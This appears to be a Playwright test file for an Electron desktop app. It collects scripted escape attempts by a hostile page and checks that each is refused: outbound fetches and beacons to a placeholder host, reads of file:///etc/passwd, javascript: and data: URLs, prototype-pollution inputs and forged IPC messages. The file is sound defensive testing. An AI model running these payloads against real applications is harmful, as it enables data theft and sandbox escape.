import type { Page } from '@playwright/test'

/**
 * Scripts that a hostile page of the app runs to escape, each with a name. `OUT` is replaced by the address of a
 * server on this computer that no page may reach, `UDP` by the port of a second such server. A script returns `refused`
 * or what it obtained. The test also looks for requests, windows, downloads and navigations, and so finds a wrong
 * `refused`.
 */
type Attempt = readonly [name: string, script: string]

/** Adds an element and waits for its load, its error or a violation of the content security policy. */
const element = (tag: string, set: string): string => `
  const it = document.createElement('${tag}')
  Object.assign(it, ${set})
  return await load(it)`

/** Runs an action, which must throw or reject. */
const mustFail = (action: string): string =>
  `try { return (await within(${action})) === 'refused' ? 'refused' : 'got' } catch { return 'refused' }`

/** Runs an action without a result. Only its effects count, and the test waits for them. */
const act = (action: string): string => `try { ${action} } catch {} return 'refused'`

const navigation: readonly Attempt[] = [
  ['location.href', act("location.href = 'OUT/a'")],
  ['location.assign of a file', act("location.assign('file:///etc/passwd')")],
  ['location.replace with data', act("location.replace('data:text/html,<h1>x</h1>')")],
  [
    'a javascript address',
    `location.href = 'javascript:void(window.ran = 1)'; await pause(); return window.ran ? 'ran' : 'refused'`,
  ],
  [
    'a link to the top',
    act(
      "const a = document.createElement('a'); Object.assign(a, { href: 'OUT/b', target: '_top' }); document.body.append(a); a.click()",
    ),
  ],
  [
    'a form that posts',
    act(
      "const f = document.createElement('form'); Object.assign(f, { method: 'post', action: 'OUT/c' }); document.body.append(f); f.submit()",
    ),
  ],
  [
    'a form in a new window',
    act(
      "const f = document.createElement('form'); Object.assign(f, { action: 'OUT/d', target: '_blank' }); document.body.append(f); f.submit()",
    ),
  ],
  [
    'a meta refresh',
    act(
      "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=OUT/e'; document.head.append(m)",
    ),
  ],
  ['the navigation interface', act("navigation.navigate('OUT/f').finished.catch(() => {})")],
  ['another origin in the history', mustFail("history.pushState({}, '', 'OUT/g')")],
  [
    'a base address',
    `const b = document.createElement('base'); b.href = 'OUT/'; document.head.append(b); return document.baseURI.startsWith('OUT') ? 'moved' : 'refused'`,
  ],
  ['a page of the browser', act("location.href = 'chrome://gpu'")],
  ['the source of a page', act("location.href = 'view-source:OUT/'")],
]

const windows: readonly Attempt[] = [
  ['window.open', act("window.open('OUT/h')")],
  ['window.open without an opener', act("window.open('OUT/i', '_blank', 'noopener,width=1')")],
  ['window.open of a javascript address', act("window.open('javascript:opener.ran = 1')")],
  ['an empty window that it writes', act("window.open('')?.document.write('<script src=OUT/j.js></script>')")],
  ['a window of the app with more in its address', act("window.open('/admin/study/7/invoice?next=OUT')")],
  ['a window of a file', act("window.open('file:///etc/passwd')")],
]

const frames: readonly Attempt[] = [
  ['a frame', element('iframe', "{ src: 'OUT/k' }")],
  ['a frame of a file', element('iframe', "{ src: 'file:///etc/passwd' }")],
  ['a frame of data', element('iframe', "{ src: 'data:text/html,x' }")],
  ['a frame of a blob', element('iframe', "{ src: URL.createObjectURL(new Blob(['x'], { type: 'text/html' })) }")],
  [
    'a frame whose text has a script',
    `const it = document.createElement('iframe'); it.srcdoc = '<script>parent.ran = 1</script>'; document.body.append(it); await pause(); return window.ran ? 'ran' : 'refused'`,
  ],
  [
    'a frame of a javascript address',
    `const it = document.createElement('iframe'); it.src = 'javascript:parent.ran = 1'; document.body.append(it); await pause(); return window.ran ? 'ran' : 'refused'`,
  ],
  ['an embedded object', element('object', "{ data: 'OUT/l' }")],
  ['an embed', element('embed', "{ src: 'OUT/m' }")],
  [
    'a webview',
    act(
      "const it = document.createElement('webview'); it.setAttribute('src', 'OUT/n'); it.setAttribute('nodeintegration', ''); document.body.append(it)",
    ),
  ],
  [
    'calls of main from a frame',
    `
    const it = document.createElement('iframe'); document.body.append(it); await pause()
    const call = it.contentWindow.__electronStandIn
    if (call === undefined) return 'no way to ask, so nothing was tested'
    const { reply } = await call('invoke', 'atrium:call', [{ kind: 'call', id: 1, command: 'session.current', input: {} }])
    return reply.failure?.code === 'wrong-sender' ? 'refused' : 'answered'`,
  ],
  [
    'events of main in a frame',
    `
    const it = document.createElement('iframe'); document.body.append(it); await pause()
    it.contentWindow.__electronStandIn('send', 'atrium:resume', [{ kind: 'resume', start: null, sequence: 0 }])
    received.length = 0
    await atriumBridge.call('drafts.save', { draftID: 'd-frame', content: 1 })
    await pause()
    return received.length === 1 ? 'refused' : 'sent ' + received.length`,
  ],
]

const code: readonly Attempt[] = [
  ['a script', element('script', "{ src: 'OUT/o.js' }")],
  ['a module', mustFail('import(`OUT/p.js`)')],
  ['a module of data', mustFail("import('data:text/javascript,export default 1')")],
  [
    'a module of a blob',
    mustFail("import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))"),
  ],
  ['a worker of a blob', `return await ends(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))))`],
  ['a worker from elsewhere', mustFail("(async () => new Worker('OUT/q.js'))()")],
  ['a shared worker', `return await ends(() => new SharedWorker('data:text/javascript,0'))`],
  ['a service worker of a blob', mustFail("navigator.serviceWorker.register(URL.createObjectURL(new Blob([''])))")],
  ['a service worker from elsewhere', mustFail("navigator.serviceWorker.register('OUT/r.js')")],
  ['text in a timer', `setTimeout('window.ran = 1', 0); await pause(); return window.ran ? 'ran' : 'refused'`],
  [
    'a handler in an attribute',
    `document.body.insertAdjacentHTML('beforeend', '<img src=/none.png onerror="window.ran = 1">'); await pause(); return window.ran ? 'ran' : 'refused'`,
  ],
  ['machine code', mustFail('WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))')],
  [
    'rules for loading ahead',
    `
    const it = document.createElement('script'); it.type = 'speculationrules'
    it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['OUT/s'] }] })
    document.head.append(it); await pause(); return 'refused'`,
  ],
]

const network: readonly Attempt[] = [
  ['fetch', mustFail("fetch('OUT/t', { mode: 'no-cors' })")],
  ['fetch of a file', mustFail("fetch('file:///etc/passwd')")],
  [
    'a request of the old kind',
    `return await new Promise((done) => { const it = new XMLHttpRequest(); it.onload = () => done('loaded'); it.onerror = () => done('refused'); try { it.open('GET', 'OUT/u'); it.send() } catch { done('refused') } })`,
  ],
  ['a beacon', act("navigator.sendBeacon('OUT/v', 'x')")],
  ['a web socket', `return await ends(() => new WebSocket('OUT/w'.replace('http', 'ws')), 'onopen')`],
  ['a source of events', `return await ends(() => new EventSource('OUT/x'), 'onopen')`],
  ['an image', element('img', "{ src: 'OUT/y.png' }")],
  ['a style sheet', element('link', "{ rel: 'stylesheet', href: 'OUT/z.css' }")],
  ['a font', mustFail("new FontFace('x', 'url(OUT/1.woff2)').load()")],
  ['a video', element('video', "{ src: 'OUT/2.mp4' }")],
  [
    'a ping of a link',
    act(
      "const a = document.createElement('a'); Object.assign(a, { href: '#x', ping: 'OUT/3' }); document.body.append(a); a.click()",
    ),
  ],
  [
    'a connection to another computer',
    `
    if (window.RTCPeerConnection === undefined) return 'refused'
    const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] })
    it.createDataChannel('x')
    await it.setLocalDescription(await it.createOffer()).catch(() => undefined)
    await pause(); await pause(); it.close(); return 'refused'`,
  ],
]

const abilities: readonly Attempt[] = [
  [
    'the place',
    `return await new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('got'), () => done('refused')))`,
  ],
  ['the camera', mustFail('navigator.mediaDevices.getUserMedia({ video: true })')],
  ['the screen', mustFail('navigator.mediaDevices.getDisplayMedia()')],
  ['the clipboard', mustFail('navigator.clipboard.readText()')],
  ['a notification', `return await Notification.requestPermission() === 'granted' ? 'got' : 'refused'`],
  ['a USB device', mustFail('navigator.usb.requestDevice({ filters: [] })')],
  ['a serial port', mustFail('navigator.serial.requestPort()')],
  [
    'a payment',
    mustFail(
      "new PaymentRequest([{ supportedMethods: 'OUT' }], { total: { label: 'x', amount: { currency: 'CAD', value: '1' } } }).show()",
    ),
  ],
  [
    'a download from elsewhere',
    act("const a = document.createElement('a'); Object.assign(a, { href: 'OUT/4', download: 'x' }); a.click()"),
  ],
  [
    'a download of data',
    act(
      "const a = document.createElement('a'); Object.assign(a, { href: 'data:text/plain,x', download: 'x.exe' }); a.click()",
    ),
  ],
  [
    'Node',
    `return [typeof require, typeof process, typeof module, typeof Buffer].every((kind) => kind === 'undefined') ? 'refused' : 'got'`,
  ],
]

const bridge: readonly Attempt[] = [
  [
    'another bridge',
    `try { window.atriumBridge = {}; atriumBridge.call = () => 'own' } catch {} return Object.isFrozen(atriumBridge) && atriumBridge.call.toString() !== "() => 'own'" ? 'refused' : 'replaced'`,
  ],
  [
    'a command by an inherited name',
    `
    for (const name of ['__proto__', 'constructor', 'toString', 'session.__proto__', 'session.constructor', '__proto__.polluted']) {
      const { failure } = await atriumBridge.call(name, {})
      if (failure?.code !== 'unknown-command') return 'answered ' + name
    }
    return 'refused'`,
  ],
  [
    'input with a prototype of its own',
    `
    const input = JSON.parse('{"draftID":"d-p","content":1,"__proto__":{"draftID":"d-polluted","polluted":1},"constructor":{"prototype":{"polluted":1}}}')
    received.length = 0
    await atriumBridge.call('drafts.save', input)
    await pause()
    return JSON.stringify(received).includes('polluted') || {}.polluted !== undefined ? 'polluted' : 'refused'`,
  ],
]

/** What each system opens in another program. */
const programs: readonly Attempt[] = ['mailto:x@example.invalid', 'ms-settings:privacy', 'atrium://admin'].flatMap(
  (address): Attempt[] => [
    [`a window of ${address}`, act(`window.open('${address}')`)],
    [`a frame of ${address}`, element('iframe', `{ src: '${address}' }`)],
    [`${address} in place of the page`, act(`location.href = '${address}'`)],
  ],
)

const forgery: readonly Attempt[] = [
  [
    'an event of main by a message',
    `
    received.length = 0
    window.postMessage({ kind: 'event', name: 'members.changed', payload: {}, sequence: 9e9, start: 'x' }, '*')
    await pause(); return received.length === 0 ? 'refused' : 'received'`,
  ],
  [
    'a prototype that the page changed',
    `
    Object.defineProperty(Object.prototype, 'polluted', { value: 1, configurable: true, enumerable: true, writable: true })
    received.length = 0
    await atriumBridge.call('drafts.save', { draftID: 'd-q', content: 1 })
    await pause()
    delete Object.prototype.polluted
    return Object.hasOwn(received[0][1], 'polluted') ? 'polluted' : 'refused'`,
  ],
]

/** Dropped on the page by the test: `DROP` is the file or the link. */
const drops: readonly Attempt[] = [
  ['a dropped link', 'DROP OUT/dropped'],
  ['a dropped file', 'DROP /etc/passwd'],
]

/** Every attempt. */
export const attempts: readonly Attempt[] = [
  ...programs,
  ...forgery,
  ...drops,
  ...navigation,
  ...windows,
  ...frames,
  ...code,
  ...network,
  ...abilities,
  ...bridge,
]

/**
 * Attempts that are refused even on a page without protection, because this Chromium refuses them itself or lacks what
 * they use. A refusal of them proves nothing about the product, so they are tried but not counted.
 */
export const unprovable: ReadonlySet<string> = new Set([
  'a window of mailto:x@example.invalid',
  'a frame of mailto:x@example.invalid',
  'mailto:x@example.invalid in place of the page',
  'a window of ms-settings:privacy',
  'a frame of ms-settings:privacy',
  'ms-settings:privacy in place of the page',
  'a window of atrium://admin',
  'a frame of atrium://admin',
  'atrium://admin in place of the page',
  'location.assign of a file',
  'location.replace with data',
  'another origin in the history',
  'a page of the browser',
  'the source of a page',
  'window.open of a javascript address',
  'a window of a file',
  'a frame of a file',
  'a webview',
  'a worker from elsewhere',
  'a shared worker',
  'a service worker of a blob',
  'a service worker from elsewhere',
  'fetch of a file',
  'the camera',
  'the screen',
  'a USB device',
  'a serial port',
])

/** The attempts that count. */
export const provable: readonly Attempt[] = attempts.filter(([name]) => !unprovable.has(name))

/** Functions that the scripts use. */
const helpers = `
  const pause = () => new Promise((done) => setTimeout(done, 150))
  const within = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 1500, 'refused'))])
  const load = (it) => within(new Promise((done) => {
    document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true })
    it.onload = it.onloadeddata = () => done('loaded')
    it.onerror = () => done('refused')
    document.body.append(it)
  }))
  const ends = (make, event = 'onmessage') => within(new Promise((done) => {
    try {
      const it = make()
      it[event] = () => done('got')
      it.onerror = () => done('refused')
    } catch { done('refused') }
  }))
`

/**
 * Performs an attempt on a page and returns its answer. A navigation that is refused or succeeds may end the script
 * without an answer; any other error is thrown, because a script that cannot run proves nothing.
 */
export const perform = async (page: Page, script: string): Promise<unknown> => {
  const [, dropped] = /^DROP (.+)$/.exec(script) ?? []
  if (dropped !== undefined) return await drop(page, dropped)
  return await page.evaluate(`(async () => { ${helpers} ${script} })()`).catch((error: Error) => {
    if (/context was destroyed|navigation|Cannot find context/i.test(error.message)) return 'refused'
    throw error
  })
}

/** Drops a file or a link on the middle of a page, as a person does. */
const drop = async (page: Page, dropped: string): Promise<string> => {
  const session = await page.context().newCDPSession(page)
  const isFile = dropped.startsWith('/')
  const data = {
    items: isFile ? [] : [{ mimeType: 'text/uri-list', data: dropped }],
    ...(isFile && { files: [dropped] }),
    dragOperationsMask: 1,
  }
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
    await session.send('Input.dispatchDragEvent', { type, x: 200, y: 200, data })
  }
  await session.detach().catch(() => undefined)
  return 'refused'
}
